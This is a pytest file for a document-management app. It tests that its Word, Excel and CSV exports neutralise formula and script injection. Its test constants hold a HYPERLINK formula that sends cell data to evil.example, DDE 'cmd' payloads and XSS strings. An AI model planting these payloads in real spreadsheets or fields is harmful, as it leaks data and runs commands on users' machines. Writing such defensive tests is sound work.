"""What officers, plans and the directory supply reaches files too: the report (.docx shows it as
literal text, no field codes), the report annex, `dondoc plan export --format xlsx`, `dondoc directory
export` and the focal point's CSV (a cell starting with =, +, -, @ is never a formula)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pendulum
import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.engine import Engine
from sqlmodel import Session

from dondoc.clock import TZ
from dondoc.config import Settings
from dondoc.models import Assignment, Officer, Plan, StatusUpdate, Unit
from dondoc.reporting.sample import seed_sample
from dondoc.reporting.snapshot import build_snapshot
from tests.integration.web.world import World

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm vào")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "=1+1"]
XSS = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>']
FIELD_CODE = re.compile(rb"<w:(fldSimple|instrText|fldChar)\b")


def _xlsx_cells(path: Path) -> list[Any]:
    wb = load_workbook(path)  # formulas come back as data_type 'f'
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


@pytest.fixture
def poisoned_report(engine: Engine, settings: Settings) -> dict[str, Any]:
    with Session(engine, expire_on_commit=False) as s:
        ids = seed_sample(s)
        s.commit()
        values = FORMULAS + XSS
        ups = s.exec(StatusUpdate.__table__.select()).all()  # type: ignore[attr-defined]
        for i, u in enumerate(ups):
            v = values[i % len(values)]
            s.execute(update(StatusUpdate).where(StatusUpdate.id == u.id).values(result=v, difficulties=v, proposals=v))
        s.execute(update(Plan).where(Plan.id == ids["plan_id"]).values(title=f"Kế hoạch {XSS[0]} {FORMULAS[0]}"))
        s.execute(update(Assignment).values(text=FORMULAS[1]))
        s.execute(update(Unit).where(Unit.code == "yte").values(name=FORMULAS[4]))
        s.commit()
        snap = build_snapshot(s, plan_id=ids["plan_id"], period="2025", now=pendulum.datetime(2025, 11, 13, 9, tz=TZ))
    return snap


def test_report_docx_literal_text_no_field_codes(poisoned_report: dict[str, Any], tmp_path: Path) -> None:
    from dondoc.reporting.docx_report import render_report_docx

    path = tmp_path / "r.docx"
    render_report_docx(poisoned_report, path)
    with zipfile.ZipFile(path) as zf:
        body = zf.read("word/document.xml")
    for m in FIELD_CODE.finditer(body):  # the only field allowed is the page number of the template
        chunk = body[m.start(): m.start() + 300]
        assert b"HYPERLINK" not in chunk and b"evil" not in chunk, chunk
    from docx import Document
    text = "\n".join(p.text for p in Document(str(path)).paragraphs) + "\n".join(
        c.text for t in Document(str(path)).tables for r in t.rows for c in r.cells)
    assert "<script>alert(1)</script>" in text  # shown literally, as typed
    assert "<script>" not in body.decode("utf-8")  # and stored escaped in the XML
    assert b"evil.example" not in body or b"w:hyperlink" not in body


def test_report_annex_xlsx_neutralises_formulas(poisoned_report: dict[str, Any], tmp_path: Path) -> None:
    from dondoc.reporting.xlsx_report import render_report_xlsx

    path = tmp_path / "r.xlsx"
    render_report_xlsx(poisoned_report, path)
    cells = _xlsx_cells(path)
    dangerous = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    assert dangerous, "the poisoned values should reach the annex"
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert all(c.quotePrefix or c.data_type in ("s", "inlineStr") for c in dangerous)


def test_plan_export_xlsx_neutralises_formulas(engine: Engine, settings: Settings, tmp_path: Path) -> None:
    from dondoc.intake import export as plan_export

    with Session(engine, expire_on_commit=False) as s:
        ids = seed_sample(s)
        s.execute(update(Plan).where(Plan.id == ids["plan_id"]).values(title=FORMULAS[0], number="=1+1"))
        s.execute(update(Assignment).values(text=FORMULAS[1]))
        s.commit()
        data = plan_export.plan_dict(s, ids["plan_id"])
    path = tmp_path / "plan.xlsx"
    plan_export.write_xlsx(data, path)
    cells = _xlsx_cells(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert any(isinstance(c.value, str) and "HYPERLINK" in c.value for c in cells)


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_directory_export_neutralises_formulas(engine: Engine, settings: Settings, tmp_path: Path, fmt: str) -> None:
    from dondoc import clock
    from dondoc.directory.apply import import_directory
    from dondoc.directory.export import export_directory

    src = tmp_path / "dir.yaml"
    src.write_text(
        "units:\n"
        f"- {{code: U1, name: '{FORMULAS[0].replace(chr(39), chr(39) * 2)}', kind: district}}\n"
        f"- {{code: U2, name: '{FORMULAS[2]}', kind: department, parent: U1}}\n"
        "officers:\n"
        f"- {{code: O1, unit: U1, name: '{FORMULAS[3]}', role: head, position: '=1+1'}}\n"
        "contacts: []\naliases: []\n", encoding="utf-8")
    import_directory(engine=engine, settings=settings, path=src, now=clock.now())
    out = export_directory(engine=engine, settings=settings, path=tmp_path / f"out.{fmt}")
    if fmt == "xlsx":
        cells = _xlsx_cells(out)
        assert any(isinstance(c.value, str) and "HYPERLINK" in c.value for c in cells)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        # and a re-import reads back exactly what was written (the neutralising is not data loss)
        with Session(engine) as s:
            before = sorted((u.code, u.name) for u in s.exec(Unit.__table__.select()).all())  # type: ignore[attr-defined]
        import_directory(engine=engine, settings=settings, path=out, now=clock.now())
        with Session(engine) as s:
            assert sorted((u.code, u.name) for u in s.exec(Unit.__table__.select()).all()) == before  # type: ignore[attr-defined]
    else:
        # a CSV is for re-import (dondoc directory import): it keeps values as typed; spreadsheets open
        # the .xlsx export. Documented, not neutralised: see the report.
        assert FORMULAS[2] in out.read_text(encoding="utf-8-sig")


def test_focal_csv_export_neutralises_formulas(client: TestClient, world: World, engine: Engine) -> None:
    form = f"/t/{world.tokens['a1']}/o/{world['rep1']}"
    token = re.search(r'name="csrf" value="([0-9a-f]+)"', client.get(form).text).group(1)  # type: ignore[union-attr]
    r = client.post(form, data={"csrf": token, "status": "in_progress", "progress": "5", "result": FORMULAS[0],
                                "difficulties": FORMULAS[1], "proposals": FORMULAS[3]}, follow_redirects=False)
    assert r.status_code == 303
    with Session(engine) as s:
        s.execute(update(Unit).where(Unit.id == world["xa1"]).values(name="=cmd|' /C calc'!A0"))
        s.execute(update(Officer).where(Officer.id == world["a1"]).values(name="@SUM(1)"))
        s.commit()
    z = client.get(f"/t/{world.tokens['focal']}/focal/{world['plan']}/export.zip")
    with zipfile.ZipFile(io.BytesIO(z.content)) as zf:
        text = zf.read("tong-hop.csv").decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert any("HYPERLINK" in c for c in cells) and any("calc" in c for c in cells)
    bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert bad == [], bad
